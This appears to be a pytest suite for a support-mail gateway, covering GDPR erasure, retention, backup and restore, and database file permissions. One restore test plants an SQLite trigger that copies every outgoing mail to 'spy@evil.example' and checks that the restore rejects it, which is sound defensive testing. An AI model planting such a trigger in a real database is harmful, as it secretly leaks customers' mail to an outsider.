"""The data's whole life: erasure of a person (GDPR art. 17), retention, backup and restore, on
the real pipeline, scheduler and SMTP sink, and the database file itself."""

from __future__ import annotations

import asyncio
import os
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from gateway.cli import backup
from gateway.cli.sink import SmtpSink
from gateway.core.clock import FakeClock
from gateway.core.config import Config, ConfigError
from gateway.promise import keeping as report
from gateway.store import postgres, ts
from gateway.store.db import is_postgres
from tests.conftest import customer_mail, database_toml, harness, relay_reply
from tests.harness import Harness

JANE = b"jane@acme.example"


def file_bytes(db: str) -> bytes:
    """Everything the database keeps: for SQLite the file and its log (free pages too); for
    PostgreSQL every value of every row of every table."""
    if is_postgres(db):
        return b"".join(b"".join(rows) for rows in _rows(db).values())
    return b"".join(
        Path(p).read_bytes() for p in (db, f"{db}-wal", f"{db}-shm") if Path(p).exists()
    )


def _rows(db: str) -> dict[str, list[bytes]]:
    """Each table's rows, each row's values as bytes (the search index's own tables aside)."""
    if is_postgres(db):
        con = postgres.connect(db)
        listing = "SELECT tablename FROM pg_tables WHERE schemaname = 'public'"
    else:
        con = sqlite3.connect(db)  # type: ignore[assignment]
        listing = "SELECT name FROM sqlite_master WHERE type = 'table'"
    try:
        tables = [r[0] for r in con.execute(listing).fetchall()]
        return {
            t: [
                b"".join(v if isinstance(v, bytes) else str(v).encode() for v in row)
                for row in con.execute(f'SELECT * FROM "{t}"').fetchall()
            ]
            for t in tables
            if not t.startswith("tickets_search")
        }
    finally:
        con.close()


def tables_naming(db: str, text: str) -> set[str]:
    """The tables with a value that contains ``text``."""
    return {t for t, rows in _rows(db).items() if any(text.encode() in r for r in rows)}


async def jane_and_bob(h: Harness) -> None:
    """Jane (with Tom in CC) asks and Sam answers; Jane's out-of-office note comes on its own;
    Bob asks something else."""
    await h.receive(
        customer_mail(
            1,
            body="Our export fails with error E42 on host build-7. Can you help?",
            headers={"Cc": "Tom Colleague <tom@acme.example>"},
        )
    )
    copy = next(m for m in h.sink.messages if m["X-Support-Kind"] == "se-copy")
    await h.receive(relay_reply(copy, "Fixed in 4.2: upgrade and run it again.", n="se-1"))
    await h.receive(
        customer_mail(
            "ooo",
            subject="Out of office: back Monday",
            body="I am out of the office. Jane Customer",
            headers={"Auto-Submitted": "auto-replied"},
        )
    )
    await h.receive(
        customer_mail(2, sender="bob@globex.example", name="Bob Buyer", body="Invoices empty?")
    )


def toml(tmp_path: Path, config: Config) -> Path:
    path = tmp_path / "erase.toml"
    path.write_text(
        f"[imap]\nenabled = false\n{database_toml(config)}"
        '[routing]\ndefault_se = "dana@example.com"\n[[people]]\nname = "Dana"\n'
        'address = "dana@example.com"\nrole = "se"\n'
    )
    return path


async def test_erase_removes_a_persons_mail_and_data_and_keeps_the_record(
    h: Harness, make_config: Callable[..., Config], tmp_path: Path
) -> None:
    await jane_and_bob(h)
    config = make_config()
    db = config.database.target
    now = h.clock.now()
    before = report.collect(db, now - timedelta(days=1), 60, now)
    await h.store.stop()
    assert JANE in file_bytes(db) and b"tom@acme.example" in file_bytes(db)

    run = await asyncio.to_thread(
        subprocess.run,
        [
            sys.executable,
            "-m",
            "gateway",
            "erase",
            "--config",
            str(toml(tmp_path, config)),
            "--address",
            "Jane@Acme.example",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    said = dict(line.strip().rsplit(None, 1) for line in run.stdout.splitlines()[1:-1])
    assert said["tickets"] == "1" and int(said["mails in"]) == 3 and int(said["mails out"]) >= 3
    assert said["people"] == "2" and said["automatic-mail counts"] == "1"

    on_disk = file_bytes(db)
    for personal in (JANE, b"Jane Customer", b"Tom Colleague", b"build-7", b"error E42"):
        assert personal not in on_disk, personal
    # Tom was in CC of Jane's ticket: that is gone; his own record (today's count of automatic
    # mail to him, for the caps) is his, not hers.
    assert tables_naming(db, "tom@acme.example") == {"automatic_mail"}
    assert b"bob@globex.example" in on_disk, "Bob's ticket is not Jane's"
    after = report.collect(db, now - timedelta(days=1), 60, now)
    assert after == before, "the promise record is unchanged"


async def test_erasing_someone_only_in_cc_takes_them_off_and_leaves_the_customers_ticket(
    h: Harness, make_config: Callable[..., Config], tmp_path: Path
) -> None:
    """An outsider who got themselves copied on Jane's ticket cannot have it erased: erasing
    them takes them off it and empties what they wrote; Jane's mail and dates stay."""
    from gateway.cli import erase

    await jane_and_bob(h)
    copy = next(m for m in h.sink.messages if m["X-Support-Kind"] == "se-copy")
    ack = next(m for m in h.sink.messages if m["X-Support-Kind"] == "ack")
    await h.receive(
        customer_mail(
            "tom",
            sender="tom@acme.example",
            name="Tom Colleague",
            body="Tom here: it fails on build-9 as well.",
            in_reply_to=ack["Message-ID"],
        )
    )
    assert "SUP-1001" in str(copy["Subject"])
    config = make_config()
    await h.store.stop()
    gone = await erase.erase(config, h.clock, "Tom@Acme.example", vacuum=True)
    assert gone["tickets"] == 0 and gone["taken off tickets"] == 1 and gone["people"] == 1
    assert gone["mails in"] == 1, "the mail Tom wrote"
    naming = tables_naming(config.database.target, "build-9")
    assert "inbox_raw" not in naming, "the mail Tom wrote is emptied"
    assert "participants" not in tables_naming(config.database.target, "tom@acme.example")
    on_disk = file_bytes(config.database.target)
    assert JANE in on_disk and b"error E42" in on_disk, "Jane's ticket is Jane's"


def sams(db: str, now: datetime) -> dict[str, object]:
    """Sam's figures in the promise record (Jane's ticket is Sam's; Bob's is Dana's)."""
    rows = report.collect(db, now - timedelta(days=1), 60, now)
    return next(r for r in rows if r["scope"] == "se" and r["name"] == "sam@example.com")


async def test_retention_forgets_resolved_tickets_and_old_held_mail_only(
    make_config: Callable[..., Config], clock: FakeClock, sink: SmtpSink
) -> None:
    config = make_config(retention={"resolved_mail_days": 40, "quarantine_days": 10})
    async with harness(config, clock, sink) as h:
        await jane_and_bob(h)
        copy = next(
            m
            for m in h.sink.messages
            if m["X-Support-Kind"] == "se-copy" and "1001" in m["Subject"]
        )
        await h.receive(relay_reply(copy, "#resolved\nClosing: fixed in 4.2.", n="se-2"))
        await h.receive(b"\r\n\r\n")
        assert await h.scalar("SELECT state FROM tickets WHERE key = 'SUP-1001'") == "resolved"
        now = h.clock.now()
        before = sams(config.database.target, now)
        dates = await h.scalar("SELECT count(*) FROM commitments WHERE ticket_id = 1")

        await h.later(timedelta(days=9))
        assert await h.scalar("SELECT count(*) FROM inbox WHERE state = 'quarantined'") == 1
        assert await h.scalar("SELECT forgotten_at FROM tickets WHERE key = 'SUP-1001'") is None

        await h.later(timedelta(days=32))  # 41 days after it was resolved
        assert await h.scalar("SELECT count(*) FROM inbox WHERE state = 'quarantined'") == 0
        assert await h.scalar("SELECT subject FROM tickets WHERE key = 'SUP-1001'") == "(removed)"
        assert (
            await h.scalar(
                "SELECT sum(length(r.raw)) FROM inbox_raw r JOIN inbox i ON i.id = r.inbox_id"
                " WHERE i.ticket_id = 1"
            )
            == 0
        )
        assert await h.scalar("SELECT count(*) FROM participants WHERE ticket_id = 1") == 0
        assert (
            await h.scalar("SELECT count(*) FROM commitments WHERE ticket_id = 1 AND told = ''")
            == dates
        ), "its dates stay, without their wording"
        bob = "SELECT subject, state FROM tickets WHERE key = 'SUP-1002'"
        assert await h.scalar(bob) != "(removed)", "an open ticket keeps everything"
        search = (
            "SELECT count(*) FROM tickets WHERE customer_address ILIKE '%acme%'"
            if h.store.postgres
            else "SELECT count(*) FROM tickets_search WHERE tickets_search MATCH '\"acme\"'"
        )
        assert await h.scalar(search) == 0, "nor can it be found by Jane's address any more"
        two_days_ago = ts(h.clock.now() - timedelta(days=2))
        assert (
            await h.scalar(
                f"SELECT count(*) FROM automatic_mail WHERE queued_at < '{two_days_ago}'"
            )
            == 0
        ), "who got automatic mail is kept only as long as the caps look back"
    assert sams(config.database.target, now) == before, "Jane's ticket (Sam's) counts the same"


@pytest.mark.sqlite_only  # PostgreSQL is backed up with pg_dump (README)
async def test_a_backup_restored_into_a_fresh_database_runs_on(
    h: Harness,
    make_config: Callable[..., Config],
    clock: FakeClock,
    sink: SmtpSink,
    tmp_path: Path,
) -> None:
    await h.receive(customer_mail(1))
    ack = next(m for m in h.sink.messages if m["X-Support-Kind"] == "ack")
    copy = tmp_path / "backup.db"
    status, text = await asyncio.to_thread(backup.backup, make_config(), str(copy))
    assert status == 0 and "1 tickets" in text, text  # while the store is open: online
    assert backup.backup(make_config(), str(copy))[0] == 1, "never over an existing file"

    elsewhere = make_config(database={"path": str(tmp_path / "restored" / "gateway.db")})
    assert backup.restore(elsewhere, str(tmp_path / "nothing.db"), False)[0] == 1
    (tmp_path / "junk.db").write_bytes(b"not a database at all" * 100)
    assert "not a" in backup.restore(elsewhere, str(tmp_path / "junk.db"), False)[1]
    status, text = await asyncio.to_thread(backup.restore, elsewhere, str(copy), False)
    assert status == 0, text
    assert backup.restore(elsewhere, str(copy), False)[0] == 1, "an existing one needs --force"

    sink.messages.clear()
    async with harness(elsewhere, clock, sink) as restored:
        await restored.later(timedelta(days=1, hours=1))  # the reply date passed meanwhile
        revised = [m for m in sink.messages if m["X-Support-Kind"] == "revised-eta"]
        assert [m["To"] for m in revised] == [ack["To"]], "the ledger goes on from the copy"
        await restored.receive(
            customer_mail("again", body="Any news?", in_reply_to=ack["Message-ID"])
        )
        assert await restored.scalar("SELECT count(*) FROM tickets") == 1, "same thread"
        answered = [m for m in sink.messages if m["To"] == ack["To"]]
        assert answered and {m["X-Support-Ticket"] for m in answered} == {"SUP-1001"}


def test_retention_shorter_than_the_reopen_window_is_refused(
    make_config: Callable[..., Config],
) -> None:
    with pytest.raises(ConfigError) as refused:
        make_config(retention={"resolved_mail_days": 20}, sla={"reopen_days": 30})
    assert "retention.resolved_mail_days" in str(refused.value)


@pytest.mark.sqlite_only  # PostgreSQL's files are the server's
async def test_the_database_and_its_backups_are_readable_by_the_daemon_only(
    make_config: Callable[..., Config], clock: FakeClock, sink: SmtpSink, tmp_path: Path
) -> None:
    import os
    import stat

    old = os.umask(0o022)  # run by hand: a umask that leaves files readable by everyone
    try:
        config = make_config(database={"path": str(tmp_path / "state" / "gateway.db")})
        async with harness(config, clock, sink) as h:
            await h.receive(customer_mail(1))
            copy = tmp_path / "backup.db"
            status, text = await asyncio.to_thread(backup.backup, config, str(copy))
            assert status == 0, text
            db = Path(config.database.path)
            for path in (db, Path(f"{db}-wal"), Path(f"{db}-shm"), copy):
                assert path.exists(), path
                assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
            assert stat.S_IMODE(db.parent.stat().st_mode) == 0o700
            # A link pointing nowhere is not written through.
            link = tmp_path / "dangling.db"
            link.symlink_to(tmp_path / "elsewhere" / "stolen.db")
            assert backup.backup(config, str(link))[0] == 1
            assert not (tmp_path / "elsewhere").exists()
    finally:
        os.umask(old)


@pytest.mark.sqlite_only  # PostgreSQL is restored with pg_restore (README)
async def test_a_restore_takes_only_our_schema_and_its_session_key_signs_nothing(
    h: Harness, make_config: Callable[..., Config], clock: FakeClock, tmp_path: Path
) -> None:
    from gateway.store import Store
    from gateway.store import web as web_store
    from gateway.store.db import read_once

    await h.receive(customer_mail(1))
    good = tmp_path / "good.db"
    assert (await asyncio.to_thread(backup.backup, make_config(), str(good)))[0] == 0
    # Someone with the backup file adds a trigger that copies every later mail to a spy.
    spied = tmp_path / "spied.db"
    assert (await asyncio.to_thread(backup.backup, make_config(), str(spied)))[0] == 0
    con = sqlite3.connect(spied)
    con.execute(
        "CREATE TRIGGER spy AFTER INSERT ON outbox BEGIN UPDATE outbox"
        " SET rcpt = rcpt || ',spy@evil.example' WHERE id = NEW.id; END"
    )
    con.execute("CREATE INDEX extra ON tickets(subject)")
    con.execute("DROP INDEX commitments_open_ticket")
    con.commit()
    con.close()

    target = make_config(database={"path": str(tmp_path / "restored" / "gateway.db")})
    status, text = await asyncio.to_thread(backup.restore, target, str(spied), False)
    assert status == 1, text
    assert "an extra trigger spy" in text and "an extra index extra" in text, text
    assert "no index commitments_open_ticket" in text and "nothing was changed" in text
    assert not await asyncio.to_thread(os.path.exists, target.database.path)

    def key(path: Path | str) -> str:
        con = sqlite3.connect(path)
        try:
            return str(con.execute("SELECT value FROM web_keys").fetchone()[0])
        finally:
            con.close()

    async with Store(str(good)) as copy:
        await copy.run(web_store.signing_key)  # the daemon's key, in the copy
        await copy.run(
            lambda db: web_store.set_password_hash(db, "lee@example.com", "x", clock.now())
        )
    key_before = key(good)
    gen_before = read_once(str(good), lambda db: web_store.generation(db, "lee@example.com"))
    status, text = await asyncio.to_thread(backup.restore, target, str(good), False)
    assert status == 0 and "new web session key" in text, text
    assert key(target.database.path) != key_before, "a cookie signed with the copy's key fails"
    gen_after = read_once(
        target.database.path, lambda db: web_store.generation(db, "lee@example.com")
    )
    assert gen_after is not None and gen_after != gen_before, "every session of the copy ended"
